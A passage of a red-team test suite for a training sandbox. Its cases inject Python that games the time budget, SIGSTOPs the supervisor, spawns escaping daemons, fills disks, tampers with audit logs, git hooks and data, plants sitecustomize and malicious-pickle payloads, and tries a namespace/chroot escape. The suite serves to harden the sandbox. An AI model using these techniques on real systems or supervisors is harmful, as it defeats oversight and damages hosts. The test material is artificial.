    slug: 'budget-pretrain-before-first-batch',
    class: 'budget',
    careless: false,
    attempts: 'trains on random tokens before asking for the first batch (the clock starts there), for up to ten minutes',
    stoppedBy: 'the startup allowance (spawn to first batch) or the wall-clock ceiling: over_budget / timed_out',
    slow: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          _rt_t0 = time.time()
          _rt_opt = torch.optim.AdamW(model.parameters(), lr=1e-3)
          while time.time() - _rt_t0 < 600:   # before the first batch: "untimed"
              _rt_x = torch.randint(0, VOCAB_SIZE, (DEVICE_BATCH, SEQ_LEN + 1), device=DEVICE)
              _rt_opt.zero_grad(set_to_none=True)
              model(_rt_x[:, :-1], _rt_x[:, 1:]).backward()
              _rt_opt.step()
        `,
      },
    ],
    expect: { status: ['over_budget', 'timed_out'], reasonMatches: /startup|allowance|ceiling|first batch|budget/i },
  },
  {
    id: '31',
    slug: 'budget-spin-before-first-batch',
    class: 'budget',
    careless: false,
    attempts: 'spins forever before the first batch',
    stoppedBy: 'the startup allowance or the wall-clock ceiling',
    slow: true,
    edits: [{ kind: 'insertBefore', find: LOADER, text: py`
      while True:
          pass
    ` }],
    expect: { status: ['over_budget', 'timed_out'], reasonMatches: /startup|allowance|ceiling|first batch|budget/i },
  },
  {
    id: '32',
    slug: 'budget-stop-parent',
    class: 'budget',
    careless: false,
    attempts: 'SIGSTOPs its parent and pid 1 (hoping to freeze whoever keeps the clock), then trains 2.5 budgets by its own clock',
    stoppedBy: 'the supervisor is outside the pid namespace and keeps time: over_budget (or the ceiling)',
    edits: [
      {
        kind: 'insertBefore',
        find: LOOP,
        text: py`
          for _rt_pid in {torch.os.getppid(), 1}:
              try:
                  torch.os.kill(_rt_pid, 19)
              except Exception as _rt_e:
                  print(f"redteam: SIGSTOP {_rt_pid}: {_rt_e}", flush=True)
          _rt_start = time.time()
        `,
      },
      { kind: 'replaceLine', find: LOOP, text: 'while time.time() - _rt_start < 2.5 * TIME_BUDGET:' },
    ],
    expect: { status: ['over_budget', 'timed_out', 'crashed'], reasonMatches: /budget|allowance|ceiling|kill|signal|exit/i },
  },

  // ---------------------------------------------------------------- daemons and escapes
  {
    id: '33',
    slug: 'escape-setsid-double-fork',
    class: 'escape',
    careless: false,
    attempts: 'double fork with setsid (through torch.os), the grandchild execs a marker-named python that sleeps 20 s and then writes marker files into the workspace, state, data, /tmp and /work; training goes on honestly',
    stoppedBy: "own pid namespace: the sandbox's processes die with it when the supervisor kills bwrap",
    prelude: true,
    delayed: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOOP,
        text: py`
          _rt_argv = _rt_daemon_argv(20)
          _rt_pid = _rt_torch.os.fork()
          if _rt_pid == 0:
              try:
                  _rt_torch.os.setsid()
                  if _rt_torch.os.fork() == 0:
                      _rt_torch.os.execv(_rt_argv[0], _rt_argv)
              finally:
                  _rt_torch.os._exit(0)
          _rt_torch.os.waitpid(_rt_pid, 0)
          print("redteam: daemon started", flush=True)
        `,
      },
    ],
    expect: { status: ['succeeded'], honest: true },
    sideEffects: 'a process named by the marker, marker files after 20 s',
  },
  {
    id: '34',
    slug: 'escape-os-system-background',
    class: 'escape',
    careless: false,
    attempts: 'torch.os.system("nohup python3 -c <daemon> <marker> ... &")',
    stoppedBy: 'own pid namespace',
    prelude: true,
    delayed: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOOP,
        text: py`
          _rt_cmd = "nohup " + " ".join("'" + a + "'" for a in _rt_daemon_argv(20)) + " >/dev/null 2>&1 &"
          print("redteam: os.system ->", _rt_torch.os.system(_rt_cmd), flush=True)
        `,
      },
    ],
    expect: { status: ['succeeded'], honest: true },
    sideEffects: 'a process named by the marker, marker files after 20 s',
  },
  {
    id: '35',
    slug: 'escape-posix-spawn-setsid',
    class: 'escape',
    careless: false,
    attempts: 'os.posix_spawn(..., setsid=True) of the marker daemon',
    stoppedBy: 'own pid namespace',
    prelude: true,
    delayed: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOOP,
        text: py`
          _rt_argv = _rt_daemon_argv(20)
          print("redteam: spawned", _rt_torch.os.posix_spawn(_rt_argv[0], _rt_argv, dict(_rt_os.environ), setsid=True), flush=True)
        `,
      },
    ],
    expect: { status: ['succeeded'], honest: true },
    sideEffects: 'a process named by the marker, marker files after 20 s',
  },
  {
    id: '36',
    slug: 'escape-multiprocessing-child',
    class: 'escape',
    careless: false,
    attempts: 'a non-daemonic torch.multiprocessing child (fork context) renames itself to the marker, sleeps 20 s, writes marker files',
    stoppedBy: 'own pid namespace; the supervisor kills the sandbox at hand-over instead of waiting for children',
    prelude: true,
    delayed: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOOP,
        text: py`
          def _rt_child():
              import time as _t
              _rt_set_comm()
              _t.sleep(20)
              for _d in (_RT_WS, _RT_STATE, _RT_DATA, "/tmp", "/work"):
                  try:
                      _rt_new_file(_d)
                  except Exception:
                      pass
          _rt_proc = _rt_torch.multiprocessing.get_context("fork").Process(target=_rt_child, daemon=False)
          _rt_proc.start()
        `,
      },
    ],
    expect: { status: ['succeeded'], honest: true },
    sideEffects: 'a process named by the marker, marker files after 20 s',
  },
  {
    id: '37',
    slug: 'escape-fork-bomb-bounded',
    solo: true,
    class: 'escape',
    careless: false,
    attempts: '64 forked children, each named by the marker, sleeping 30 s (bounded so that a missing sandbox does not take the host down)',
    stoppedBy: 'own pid namespace (all die with the sandbox)',
    prelude: true,
    delayed: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOOP,
        text: py`
          import time as _rt_time
          for _rt_i in range(64):
              if _rt_torch.os.fork() == 0:
                  _rt_set_comm()
                  _rt_time.sleep(30)
                  _rt_torch.os._exit(0)
        `,
      },
    ],
    expect: { status: ['succeeded', 'crashed'], honest: true, reasonMatches: /fork|resource|process|exit/i },
    sideEffects: '64 processes named by the marker',
  },
  {
    id: '38',
    slug: 'escape-fill-scratch',
    solo: true,
    class: 'escape',
    careless: false,
    attempts: 'fills its scratch (cwd) and then /tmp with zeros, 64 MB at a time, until ENOSPC or 256 MB past the size the file system claims; a scratch that claims more than 8 GB is already unbounded',
    stoppedBy: "the size limits of the scratch and /tmp tmpfs (SCRATCH_BYTES, ENOSPC); nothing lands on the host's disk",
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOOP,
        text: py`
          _rt_chunk = bytes(64 << 20)
          for _rt_dir in (_rt_os.getcwd(), "/tmp"):
              _rt_st = _rt_os.statvfs(_rt_dir)
              _rt_size = _rt_st.f_blocks * _rt_st.f_frsize
              if _rt_size > (8 << 30):
                  _rt_breach(f"{_rt_dir} claims {_rt_size >> 20} MB: no tight size limit")
                  continue
              _rt_path, _rt_written = _rt_os.path.join(_rt_dir, "fill.bin"), 0
              try:
                  with open(_rt_path, "wb") as _rt_f:
                      while _rt_written < _rt_size + (256 << 20):
                          _rt_f.write(_rt_chunk)
                          _rt_f.flush()
                          _rt_written += len(_rt_chunk)
                  _rt_breach(f"{_rt_dir} took {_rt_written >> 20} MB, more than its {_rt_size >> 20} MB")
              except OSError as _rt_e:
                  print(f"redteam: {_rt_dir} full after {_rt_written >> 20} MB of {_rt_size >> 20} MB: {_rt_e}", flush=True)
              finally:
                  _rt_os.remove(_rt_path)
        `,
      },
    ],
    expect: { status: ['succeeded', 'crashed'], honest: true, reasonMatches: /No space|ENOSPC|quota|scratch|size/i },
  },

  // ---------------------------------------------------------------- network
  {
    id: '39',
    slug: 'network-tcp-socket',
    class: 'network',
    careless: false,
    attempts: "connects (socket reached as torch.sys.modules['socket']) to a listener the test opened on 127.0.0.1, localhost and ::1 and sends the marker",
    stoppedBy: 'own network namespace: only an unconfigured loopback; the listener must record nothing',
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          _rt_socket = _rt_torch.sys.modules[__RT_STR(socket)__]
          def _rt_connect(host):
              s = _rt_socket.create_connection((host, _RT_PORT), timeout=3)
              s.sendall(b"REDTEAM " + _RT_MARK.encode())
              s.close()
          for _rt_host in ("127.0.0.1", "localhost", "::1"):
              _rt_attempt(f"connect {_rt_host}", lambda _rt_host=_rt_host: _rt_connect(_rt_host))
          _rt_verdict("reach the network")
        `,
      },
    ],
    expect: { status: ['crashed'], reasonMatches: attemptsFailed('reach the network') },
    sideEffects: 'a connection recorded by the test listener',
  },
  {
    id: '40',
    slug: 'network-pretrained-url',
    class: 'network',
    careless: true,
    attempts: '"start from pretrained weights": torch.hub.load_state_dict_from_url from the test listener',
    stoppedBy: 'static rules (network) or the network namespace: the download fails, the run crashes with the error',
    edits: [
      {
        kind: 'insertAfter',
        find: MODEL,
        text: py`
          # start from pretrained weights: converges faster
          model.load_state_dict(torch.hub.load_state_dict_from_url("http://127.0.0.1:__RT_PORT__/gpt-smoke.pt", progress=False))
        `,
      },
    ],
    expect: { status: [...REFUSED_EARLY_OR_CRASHED], reasonMatches: /URLError|unreachable|refused|network|url|Errno/i },
    sideEffects: 'an HTTP request recorded by the test listener',
  },
  {
    id: '41',
    slug: 'network-abstract-unix-socket',
    class: 'network',
    careless: false,
    attempts: 'connects to an abstract unix socket the test listens on (abstract sockets are scoped by network namespace, not by the file system)',
    stoppedBy: 'own network namespace',
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          _rt_socket = _rt_torch.sys.modules[__RT_STR(socket)__]
          def _rt_unix():
              s = _rt_socket.socket(_rt_socket.AF_UNIX, _rt_socket.SOCK_STREAM)
              s.settimeout(3)
              s.connect("\0" + _RT_ABSTRACT)
              s.sendall(b"REDTEAM " + _RT_MARK.encode())
              s.close()
          _rt_attempt("abstract unix socket", _rt_unix)
          _rt_verdict("reach an abstract unix socket")
        `,
      },
    ],
    expect: { status: ['crashed'], reasonMatches: attemptsFailed('reach an abstract unix socket') },
    sideEffects: 'a connection recorded by the test listener',
  },

  // ---------------------------------------------------------------- writes to the state, .git, data, harness
  {
    id: '42',
    slug: 'write-state-db-and-audit',
    class: 'write-state',
    careless: false,
    attempts: 'appends to state.db (and -wal) and to every file of the state folder (audit anchors included), creates marker files there, by every guessed path',
    stoppedBy: 'the sandbox shows no state folder',
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          _rt_states = [_RT_STATE] + [_rt_os.path.join(d, _RT_STATE_NAME) for d in _rt_candidate_dirs()] + _rt_candidate_dirs()
          for _rt_s in _rt_states:
              for _rt_n in (_RT_DB, _RT_DB + "-wal", "audit.log", "audit-head", "server.pid"):
                  _rt_p = _rt_os.path.join(_rt_s, _rt_n)
                  if not _rt_private(_rt_p) and _rt_os.path.exists(_rt_p):
                      _rt_attempt(f"append {_rt_p}", lambda _rt_p=_rt_p: _rt_append(_rt_p))
              try:
                  _rt_names = _rt_os.listdir(_rt_s)
              except Exception:
                  _rt_names = []
              for _rt_n in _rt_names:
                  _rt_p = _rt_os.path.join(_rt_s, _rt_n)
                  if "audit" in _rt_n and not _rt_private(_rt_p) and _rt_os.path.isfile(_rt_p):
                      _rt_attempt(f"append {_rt_p}", lambda _rt_p=_rt_p: _rt_append(_rt_p))
              if not _rt_private(_rt_s):
                  _rt_attempt(f"create in {_rt_s}", lambda _rt_s=_rt_s: _rt_new_file(_rt_s))
          _rt_verdict("write the server's state")
        `,
      },
    ],
    expect: { status: ['crashed'], reasonMatches: attemptsFailed("write the server's state") },
    sideEffects: 'state.db or audit files changed, marker files in the state folder',
  },
  {
    id: '43',
    slug: 'write-git-hooks-config-refs',
    class: 'write-git',
    careless: false,
    attempts: "installs .git/hooks/post-checkout, appends core.fsmonitor to .git/config, creates a ref, in every guessed .git (/sandbox/code/../.git, __file__- and cwd-relative, the workspace's)",
    stoppedBy: 'the run folder holds code copied from blobs, no .git; the sandbox shows no workspace',
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          _rt_hook = ("#!/bin/sh\necho " + _RT_MARK + " > /tmp/" + _RT_MARK + "\n").encode()
          _rt_gits = {_rt_os.path.join(_RT_WS, ".git")}
          for _rt_d in _rt_candidate_dirs():
              _rt_gits.add(_rt_d if _rt_d.rstrip("/").endswith(".git") else _rt_os.path.join(_rt_d, ".git"))
          for _rt_g in sorted(_rt_gits):
              if _rt_private(_rt_g):
                  continue
              _rt_attempt(f"hook in {_rt_g}", lambda _rt_g=_rt_g: _rt_create(_rt_os.path.join(_rt_g, "hooks", "post-checkout"), _rt_hook))
              _rt_attempt(f"marker hook in {_rt_g}", lambda _rt_g=_rt_g: _rt_new_file(_rt_os.path.join(_rt_g, "hooks")))
              _rt_attempt(f"config in {_rt_g}", lambda _rt_g=_rt_g: _rt_append(_rt_os.path.join(_rt_g, "config"),
                          ("\n[core]\n\tfsmonitor = echo " + _RT_MARK + " > /tmp/" + _RT_MARK + "\n").encode()))
              _rt_attempt(f"ref in {_rt_g}", lambda _rt_g=_rt_g: _rt_new_file(_rt_os.path.join(_rt_g, "refs", "heads"), b"0" * 40 + b"\n"))
          _rt_verdict("write the workspace's .git")
        `,
      },
    ],
    expect: { status: ['crashed'], reasonMatches: attemptsFailed("write the workspace's .git") },
    sideEffects: 'hooks, config or refs changed',
  },
  {
    id: '44',
    slug: 'write-data-files',
    class: 'write-data',
    careless: false,
    attempts: 'appends to train.bin, val.bin, manifest.json, tokenizer.json and token_bytes.bin in /sandbox/data, the host data dir, every guessed data/ and every bind source in mountinfo',
    stoppedBy: 'data is bound read-only, train.bin and val.bin not at all',
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          _rt_names = (_RT_TRAIN, _RT_VAL, "manifest.json", "tokenizer.json", "token_bytes.bin")
          _rt_dirs = [_RT_SBX_DATA, _RT_DATA] + [_rt_os.path.join(d, "data") for d in _rt_candidate_dirs()]
          _rt_paths = [_rt_os.path.join(d, n) for d in _rt_dirs for n in _rt_names]
          _rt_paths += [r for r in _rt_mount_roots() if r.endswith(_rt_names)]
          _rt_paths += [f"/proc/1/root{p}" for p in list(_rt_paths) if p.startswith("/")]
          for _rt_p in _rt_paths:
              if _rt_os.path.exists(_rt_p):
                  _rt_attempt(f"append {_rt_p}", lambda _rt_p=_rt_p: _rt_append(_rt_p, b"\0\0"))
                  _rt_attempt(f"chmod {_rt_p}", lambda _rt_p=_rt_p: _rt_os.chmod(_rt_p, 0o666))
          _rt_attempt(f"create in {_RT_SBX_DATA}", lambda: _rt_new_file(_RT_SBX_DATA))
          _rt_verdict("write the data files")
        `,
      },
    ],
    expect: { status: ['crashed'], reasonMatches: attemptsFailed('write the data files') },
    sideEffects: 'data files changed',
  },
  {
    id: '45',
    slug: 'write-data-symlinked-export',
    class: 'write-data',
    careless: false,
    attempts: "plants symlinks in its scratch where the export may write (model.pt, weights.pt, export.pt, handover) pointing at the host's val.bin, tokenizer.json and state folder, then hands over honestly",
    stoppedBy: 'the export goes over the channel, the supervisor writes handover/ itself and never follows links from the scratch',
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: FINISH,
        text: py`
          for _rt_name, _rt_target in (("model.pt", _rt_os.path.join(_RT_DATA, _RT_VAL)),
                                       ("weights.pt", _rt_os.path.join(_RT_DATA, "tokenizer.json")),
                                       ("export.pt", _RT_SBX_DATA + "/token_bytes.bin"),
                                       ("handover", _rt_os.path.join(_RT_STATE, "runs"))):
              try:
                  _rt_os.symlink(_rt_target, _rt_name)
              except OSError as _rt_e:
                  print(f"redteam: symlink {_rt_name}: {_rt_e}", flush=True)
        `,
      },
    ],
    expect: { status: ['succeeded', 'crashed'], honest: true, reasonMatches: /symlink|link|exists|export|hand/i },
    sideEffects: 'val.bin, tokenizer.json or another run folder overwritten through a link',
  },
  {
    id: '46',
    slug: 'write-harness-code',
    class: 'write-harness',
    careless: false,
    attempts: "appends to /sandbox/code/prepare.py and train.py, creates files and __pycache__ there, renames and chmods prepare.py, writes the workspace's prepare.py and the pinned harness copy",
    stoppedBy: 'code is bound read-only; the workspace and its harness copy are not in the sandbox',
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          _rt_here = _rt_os.path.dirname(_rt_os.path.abspath(__file__))
          _rt_files = [_rt_os.path.join(_rt_here, "prepare.py"), _rt_os.path.join(_rt_here, "train.py"), "/sandbox/code/prepare.py",
                       _rt_os.path.join(_RT_WS, "prepare.py"), _rt_os.path.join(_RT_WS, "train.py")]
          _rt_files += [_rt_os.path.join(_RT_STATE, "harness", n) for n in ("prepare.py", "evaluate.py", "supervise.py", "batches.py")]
          for _rt_p in _rt_files:
              _rt_attempt(f"append {_rt_p}", lambda _rt_p=_rt_p: _rt_append(_rt_p, b"\n# " + _RT_MARK.encode() + b"\n"))
              _rt_attempt(f"chmod {_rt_p}", lambda _rt_p=_rt_p: _rt_os.chmod(_rt_p, 0o777))
          for _rt_d in (_rt_here, "/sandbox/code", _rt_os.path.join(_rt_here, "__pycache__"), _rt_os.path.join(_RT_STATE, "harness")):
              _rt_attempt(f"create in {_rt_d}", lambda _rt_d=_rt_d: _rt_new_file(_rt_d))
          _rt_attempt("mkdir __pycache__", lambda: _rt_os.mkdir(_rt_os.path.join(_rt_here, "__pycache__")))
          _rt_attempt("rename prepare.py", lambda: _rt_os.rename(_rt_os.path.join(_rt_here, "prepare.py"), _rt_os.path.join(_rt_here, _RT_MARK)))
          _rt_verdict("write the harness")
        `,
      },
    ],
    expect: { status: ['crashed'], reasonMatches: attemptsFailed('write the harness') },
    sideEffects: 'harness files changed',
  },
  {
    id: '47',
    slug: 'write-harness-usercustomize',
    class: 'write-harness',
    careless: false,
    attempts: 'writes usercustomize.py under $HOME and sitecustomize.py into its cwd and PYTHONPATH-like places, printing REDTEAM-BREACH and leaving markers if any later interpreter (supervisor, evaluator) runs them; hands over honestly',
    stoppedBy: 'the evaluator runs in its own sandbox that sees none of the scratch; the supervisor never starts Python there',
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: FINISH,
        text: py`
          import sys as _rt_sys
          _rt_payload = ("import os, sys\nsys.stderr.write('REDTEAM-BREACH customize ran in pid %d\\n' % os.getpid())\n"
                         "for d in " + repr([_RT_WS, _RT_STATE, _RT_DATA, "/tmp"]) + ":\n"
                         "    try:\n        open(os.path.join(d, " + repr(_RT_MARK) + "), 'x').write('x')\n"
                         "    except Exception:\n        pass\n")
          _rt_site = _rt_os.path.join(_rt_os.path.expanduser("~"), ".local", "lib",
                                      f"python{_rt_sys.version_info[0]}.{_rt_sys.version_info[1]}", "site-packages")
          _rt_cwd = _rt_os.path.realpath(_rt_os.getcwd())
          if not _rt_os.path.realpath(_rt_site).startswith(_rt_cwd + "/"):
              _rt_breach(f"HOME is outside the scratch: {_rt_site}")   # and never write a real user's site-packages
              _rt_site = _rt_os.path.join(_rt_cwd, "site-packages")
          for _rt_d, _rt_n in ((_rt_site, "usercustomize.py"), (_rt_os.getcwd(), "sitecustomize.py"), ("/tmp", "sitecustomize.py")):
              try:
                  _rt_os.makedirs(_rt_d, exist_ok=True)
                  with open(_rt_os.path.join(_rt_d, _rt_n), "w") as _rt_f:
                      _rt_f.write(_rt_payload)
              except OSError as _rt_e:
                  print(f"redteam: {_rt_n} in {_rt_d}: {_rt_e}", flush=True)
        `,
      },
    ],
    expect: { status: ['succeeded'], honest: true },
    sideEffects: 'REDTEAM-BREACH in the run log, marker files',
  },

  // ---------------------------------------------------------------- pickle and native code
  {
    id: '48',
    slug: 'pickle-as-model',
    class: 'pickle',
    careless: false,
    attempts: "hands over the honest weights, then sends a torch.save pickle whose __reduce__ calls os.system (print REDTEAM-BREACH, write markers), with a code/ entry added so that it looks like a TorchScript archive",
    stoppedBy: 'the evaluator only torch.jit.loads (no unpickling of Python objects) in its sandbox; the supervisor only copies bytes',
    prelude: true,
    edits: [
      {
        kind: 'replaceLine',
        find: FINISH,
        text: py`
          _rt_cmd = "echo REDTEAM-BREACH pickle executed >&2; " + "; ".join(
              f"echo {_RT_MARK} > {d}/{_RT_MARK}" for d in (_RT_WS, _RT_STATE, _RT_DATA, "/tmp"))
          class _RTEvil:
              def __reduce__(self):
                  return (_rt_os.system, (_rt_cmd,))
          model.float().eval()
          _rt_weights = _rt_bytes_of(torch.save, {k: v.detach().cpu() for k, v in model.state_dict().items()})
          _rt_r1 = _rt_send(f"handover {len(_rt_weights)}", _rt_weights)
          import io as _rt_io
          import zipfile as _rt_zip
          _rt_pickled = _rt_bytes_of(torch.save, {"model": _RTEvil(), "state_dict": {}})
          _rt_buf = _rt_io.BytesIO()
          with _rt_zip.ZipFile(_rt_io.BytesIO(_rt_pickled)) as _rt_in, _rt_zip.ZipFile(_rt_buf, "w") as _rt_out:
              for _rt_name in _rt_in.namelist():
                  _rt_out.writestr(_rt_name, _rt_in.read(_rt_name))
              _rt_root = _rt_in.namelist()[0].split("/")[0]
              _rt_out.writestr(f"{_rt_root}/code/__torch__/model.py", "")
              _rt_out.writestr(f"{_rt_root}/constants.pkl", _rt_in.read(f"{_rt_root}/data.pkl"))
          _rt_evil = _rt_buf.getvalue()
          with open("model.pt", "wb") as _rt_f:
              _rt_f.write(_rt_evil)
          _rt_r2 = _rt_send(f"model {len(_rt_evil)}", _rt_evil)
          print("redteam: sent a pickle as the model:", _rt_r1, _rt_r2, flush=True)
          finish_training(model)   # not reached once the supervisor has the model: only there for the static check
        `,
      },
    ],
    expect: { status: [...REFUSED_MODEL], reasonMatches: /the evaluator refused the model \(load\)/ },
    sideEffects: 'REDTEAM-BREACH in the run log, marker files',
  },
  {
    id: '49',
    slug: 'pickle-in-weights',
    class: 'pickle',
    careless: false,
    attempts: 'the hand-over state dict carries an object whose __reduce__ calls os.system; the model is an honest trace',
    stoppedBy: 'weights are loaded as tensors only (weights_only / a tensor-only format) by the evaluator; the supervisor does not unpickle',
    prelude: true,
    edits: [
      {
        kind: 'replaceLine',
        find: FINISH,
        text: py`
          _rt_cmd = "echo REDTEAM-BREACH pickle executed >&2; " + "; ".join(
              f"echo {_RT_MARK} > {d}/{_RT_MARK}" for d in (_RT_WS, _RT_STATE, _RT_DATA, "/tmp"))
          class _RTEvil:
              def __reduce__(self):
                  return (_rt_os.system, (_rt_cmd,))
          model.float().eval()
          _rt_sd = {k: v.detach().cpu() for k, v in model.state_dict().items()}
          _rt_sd["_rt_extra"] = _RTEvil()
          _rt_weights = _rt_bytes_of(torch.save, _rt_sd)
          _rt_r1 = _rt_send(f"handover {len(_rt_weights)}", _rt_weights)
          _rt_traced = torch.jit.trace(model, torch.zeros(EVAL_BATCH, MAX_SEQ_LEN, dtype=torch.long, device=DEVICE))
          _rt_program = _rt_bytes_of(torch.jit.save, _rt_traced)
          _rt_r2 = _rt_send(f"model {len(_rt_program)}", _rt_program)
          print("redteam: sent weights with a pickle payload:", _rt_r1, _rt_r2, flush=True)
          finish_training(model)   # not reached once the supervisor has the model: only there for the static check
        `,
      },
    ],
    expect: { status: [...REFUSED_MODEL], reasonMatches: /weight|load|pickle|unpickl|tensor|mismatch|GLOBAL|handover/i },
    sideEffects: 'REDTEAM-BREACH in the run log, marker files',
  },
  {
    id: '50',
    slug: 'pickle-torch-load-checkpoint',
    class: 'pickle',
    careless: true,
    attempts: '"resume from the last checkpoint": torch.load("ckpt.pt"), which does not exist in a fresh run',
    stoppedBy: 'nothing to stop: a clear crash (FileNotFoundError) or a static refusal',
    edits: [{ kind: 'insertAfter', find: MODEL, text: 'model.load_state_dict(torch.load("ckpt.pt"))  # resume from the last checkpoint' }],
    expect: { status: [...REFUSED_EARLY_OR_CRASHED], reasonMatches: /ckpt\.pt|No such file|torch\.load|pickle/i },
  },
  {
    id: '51',
    slug: 'native-ctypes-libc-system',
    class: 'native',
    careless: false,
    attempts: "libc system() through numpy.ctypeslib.ctypes: starts the marker daemon and writes marker files into the workspace, state, data and /work; trains on honestly",
    stoppedBy: 'the sandbox, not the language: native code sees the same mounts, namespaces and pid namespace',
    prelude: true,
    delayed: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOOP,
        text: py`
          import numpy as _rt_np
          _rt_libc = _rt_np.ctypeslib.ctypes.CDLL(None)
          _rt_cmd = "; ".join(f"(echo {_RT_MARK} > {d}/{_RT_MARK}) 2>/dev/null" for d in (_RT_WS, _RT_STATE, _RT_DATA, "/work"))
          _rt_cmd += "; nohup " + " ".join("'" + a + "'" for a in _rt_daemon_argv(20)) + " >/dev/null 2>&1 &"
          print("redteam: libc system ->", _rt_libc.system(_rt_cmd.encode()), flush=True)
        `,
      },
    ],
    expect: { status: ['succeeded'], honest: true },
    sideEffects: 'marker files, a marker process',
  },
  {
    id: '52',
    slug: 'native-unshare-remount',
    class: 'native',
    careless: false,
    attempts: 'in a forked child: unshare(CLONE_NEWUSER|CLONE_NEWNS) through ctypes, map root, remount /sandbox/code read-write and append to prepare.py; chroot escape and read the host val.bin',
    stoppedBy: 'bind mounts made read-only by bwrap are locked in child namespaces (MNT_LOCK_READONLY), no capabilities, nothing of the host to escape to',
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          import numpy as _rt_np
          _rt_ct = _rt_np.ctypeslib.ctypes
          def _rt_namespace_escape():
              libc = _rt_ct.CDLL(None, use_errno=True)
              uid, gid = _rt_os.getuid(), _rt_os.getgid()
              if libc.unshare(0x10000000 | 0x00020000) != 0:
                  raise OSError(_rt_ct.get_errno(), "unshare(CLONE_NEWUSER|CLONE_NEWNS)")
              for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
                  try:
                      with open(f"/proc/self/{name}", "w") as f:
                          f.write(text)
                  except OSError:
                      pass
              errors = []
              if libc.mount(None, b"/sandbox/code", None, 32 | 4096, None) == 0:   # MS_REMOUNT | MS_BIND, read-write
                  try:
                      _rt_append("/sandbox/code/prepare.py", b"\n# " + _RT_MARK.encode() + b"\n")
                      return "appended to prepare.py"
                  except OSError as e:
                      errors.append(f"append after remount: {e}")
              else:
                  errors.append(f"remount: errno {_rt_ct.get_errno()}")
              _rt_os.makedirs("jail", exist_ok=True)
              if libc.chroot(b"jail") == 0:
                  for _ in range(16):
                      _rt_os.chdir("..")
                  libc.chroot(b".")
                  for p in (_rt_os.path.join(_RT_DATA, _RT_VAL), _rt_os.path.join(_RT_STATE, _RT_DB)):
                      if _rt_os.path.exists(p):
                          return f"sees {p} after a chroot escape"
                  errors.append("chroot escape: nothing of the host")
              else:
                  errors.append(f"chroot: errno {_rt_ct.get_errno()}")
              raise OSError("; ".join(errors))
          _rt_rd, _rt_wr = _rt_os.pipe()
          _rt_pid = _rt_torch.os.fork()
          if _rt_pid == 0:
              _rt_os.close(_rt_rd)
              try:
                  _rt_msg, _rt_code = "WIN " + _rt_namespace_escape(), 0
              except BaseException as _rt_e:
                  _rt_msg, _rt_code = f"{type(_rt_e).__name__}: {_rt_e}", 1
              _rt_os.write(_rt_wr, _rt_msg.encode())
              _rt_os._exit(_rt_code)
          _rt_os.close(_rt_wr)
          _rt_msg = _rt_os.read(_rt_rd, 65536).decode(errors="replace")
          _rt_os.waitpid(_rt_pid, 0)
          if _rt_msg.startswith("WIN "):
              _rt_breach(_rt_msg)
          else:
              _RT_ERRORS.append(f"namespaces: {_rt_msg}")
          _rt_verdict("leave the sandbox through namespaces")
        `,
      },
    ],
    expect: { status: ['crashed'], reasonMatches: attemptsFailed('leave the sandbox through namespaces') },
    sideEffects: 'the run copy of prepare.py changed',
  },

  // ---------------------------------------------------------------- accidents: harmless by design, must score honestly
  {
    id: '53',
    slug: 'accident-patch-cross-entropy',
    class: 'accident',
    careless: true,
    attempts: 'a loss helper that replaces F.cross_entropy globally with a label-smoothed version',
    stoppedBy: 'harmless: the evaluator computes the loss itself in another process; must score honestly (or be refused by the rules)',
    edits: [
      {
        kind: 'insertAfter',
        find: 'import torch.nn.functional as F',
        text: py`
          _plain_cross_entropy = F.cross_entropy
          def _smoothed_cross_entropy(logits, targets, *args, **kwargs):
              kwargs.setdefault("label_smoothing", 0.02)
              return _plain_cross_entropy(logits, targets, *args, **kwargs)
          F.cross_entropy = _smoothed_cross_entropy   # label smoothing everywhere
        `,
      },
    ],
    expect: { status: ['succeeded', 'patch_refused'], honest: true, reasonMatches: /monkeypatch|assign|cross_entropy/i },
  },
  {
    id: '54',
    slug: 'accident-checkpoint-in-scratch',
    class: 'accident',
    careless: true,
    attempts: 'saves a checkpoint to out/ckpt.pt every 20 steps',
    stoppedBy: 'harmless: it lands in the scratch, which is discarded; nothing appears on the host outside the run folder',
    edits: [
      {
        kind: 'insertAfter',
        find: ZERO_GRAD,
        text: py`
          if step % 20 == 0:
              import os
              os.makedirs("out", exist_ok=True)
              torch.save(model.state_dict(), "out/ckpt.pt")
        `,
      },
    ],
    expect: { status: ['succeeded', 'patch_refused'], honest: true, reasonMatches: /write|out\/|os\./i },
  },
  {
    id: '55',
    slug: 'accident-seed-change',
    class: 'accident',
    careless: true,
    attempts: 'reseeds torch with 1234 after the harness seed',
    stoppedBy: 'harmless: another initialisation, an honest score within the seed noise',
    edits: [{ kind: 'insertBefore', find: MODEL, text: 'torch.manual_seed(1234)  # another seed' }],
    expect: { status: ['succeeded'], honest: true },
  },
  {
    id: '56',
    slug: 'accident-dropout',
    class: 'accident',
    careless: true,
    attempts: 'dropout 0.1 after the MLP (active in training, identity in eval mode)',
    stoppedBy: 'harmless: the export is in eval mode, so the traced dropout is the identity; the evaluator must not refuse it as a random op',
    edits: [
      {
        kind: 'replace',
        find: 'return self.c_proj(F.relu(self.c_fc(x)).square())',
        text: 'return F.dropout(self.c_proj(F.relu(self.c_fc(x)).square()), p=0.1, training=self.training)',
      },
    ],
    expect: { status: ['succeeded'], honest: true },
  },
];
